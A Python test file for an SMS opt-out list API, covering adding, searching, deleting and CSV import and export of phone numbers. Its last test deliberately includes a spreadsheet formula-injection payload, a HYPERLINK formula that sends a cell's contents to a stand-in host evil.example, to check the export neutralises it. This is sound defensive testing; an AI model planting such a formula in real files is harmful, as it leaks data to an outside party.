"""The opt-out list over HTTP: the JSON API, CSV import and export (STOP/START replies: test_inbound.py)."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from shared.sending.claims import ClaimedMessage, record_opted_out_numbers
from shared.twilio.gateway import Permanent


def test_a_21610_refusal_shows_in_the_list_with_its_source(
    client: FlaskClient, auth: dict[str, str], db_session: Session
) -> None:
    refused = ClaimedMessage(id=1, to_number="+15005550004", attempts=1)
    record_opted_out_numbers(db_session, [(refused, Permanent(21610, "unsubscribed recipient"))])
    db_session.commit()
    items = client.get("/v1/opt-outs", headers=auth).get_json()["items"]
    assert [(item["number"], item["source"]) for item in items] == [("+15005550004", "send_21610")]


def test_add_list_search_page_and_delete(client: FlaskClient, auth: dict[str, str]) -> None:
    response = client.post(
        "/v1/opt-outs",
        json={"numbers": ["+44 7700 900001", "0044-7700-900002", "+12125550100"], "reason": "asked by phone"},
        headers=auth,
    )
    assert response.status_code == 201
    assert response.get_json()["added"] == ["+12125550100", "+447700900001", "+447700900002"]
    again = client.post("/v1/opt-outs", json={"number": "+12125550100"}, headers=auth)
    assert again.status_code == 200 and again.get_json()["already_present"] == ["+12125550100"]

    first = client.get("/v1/opt-outs?limit=2", headers=auth).get_json()
    assert [item["number"] for item in first["items"]] == ["+12125550100", "+447700900001"]
    assert first["items"][0]["reason"] == "asked by phone" and first["items"][0]["source"] == "api"
    second = client.get(first["links"]["next"], headers=auth).get_json()
    assert [item["number"] for item in second["items"]] == ["+447700900002"] and second["links"]["next"] is None

    by_prefix = client.get("/v1/opt-outs?search=%2B44", headers=auth).get_json()["items"]
    assert [item["number"] for item in by_prefix] == ["+447700900001", "+447700900002"]
    by_substring = client.get("/v1/opt-outs?search=0900002", headers=auth).get_json()["items"]
    assert [item["number"] for item in by_substring] == ["+447700900002"]

    assert client.delete("/v1/opt-outs/+447700900001", headers=auth).status_code == 204
    missing = client.delete("/v1/opt-outs/%2B447700900001", headers=auth)
    assert missing.status_code == 404 and missing.content_type == "application/problem+json"
    remaining = client.get("/v1/opt-outs", headers=auth).get_json()["items"]
    assert [item["number"] for item in remaining] == ["+12125550100", "+447700900002"]


def test_invalid_numbers_are_422_and_nothing_is_stored(client: FlaskClient, auth: dict[str, str]) -> None:
    response = client.post("/v1/opt-outs", json={"numbers": ["+447700900001", "12345", 7]}, headers=auth)
    assert response.status_code == 422
    assert [entry["index"] for entry in response.get_json()["invalid"]] == [1, 2]
    assert client.get("/v1/opt-outs", headers=auth).get_json()["items"] == []
    assert client.get("/v1/opt-outs").status_code == 401


def test_csv_import_reports_lines_and_export_streams_the_list(client: FlaskClient, auth: dict[str, str]) -> None:
    client.post("/v1/opt-outs", json={"number": "+447700900009"}, headers=auth)
    content = (
        "phone,reason\n"
        "+44 7700 900001,complained\n"
        "not a number,\n"
        "+447700900009,again\n"
        "001 212 555 0100,\n"
        "+12125550100,duplicate in file\n"
        ",\n"
    )
    response = client.post("/v1/opt-outs", data=content, content_type="text/csv", headers=auth)
    assert response.status_code == 200, response.get_data(as_text=True)
    report = response.get_json()
    assert report["imported"] == 2
    assert report["already_present"] == 2
    assert report["invalid_count"] == 2
    assert [entry["line"] for entry in report["invalid"]] == [3, 7]

    bad = client.post("/v1/opt-outs", data="number\n+447700900001\n", content_type="text/csv", headers=auth)
    assert bad.status_code == 422

    export = client.get("/v1/opt-outs.csv", headers=auth)
    assert export.status_code == 200 and export.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert {row["phone"]: row["reason"] for row in rows} == {
        "+12125550100": "",
        "+447700900001": "complained",
        "+447700900009": "",
    }
    assert {row["source"] for row in rows} == {"api", "csv_import"}


def test_export_neutralises_a_reason_that_a_spreadsheet_would_run(client: FlaskClient, auth: dict[str, str]) -> None:
    """A client-supplied reason starting with `=` must not become a formula in whoever opens opt-outs.csv; the
    E.164 numbers are written as they are."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"details")'
    client.post("/v1/opt-outs", json={"number": "+447700900001", "reason": formula}, headers=auth)
    client.post("/v1/opt-outs", data="phone,reason\n+447700900002,@SUM(1)\n", content_type="text/csv", headers=auth)
    export = client.get("/v1/opt-outs.csv", headers=auth)
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert {row["phone"]: row["reason"] for row in rows} == {
        "+447700900001": "'" + formula,
        "+447700900002": "'@SUM(1)",
    }
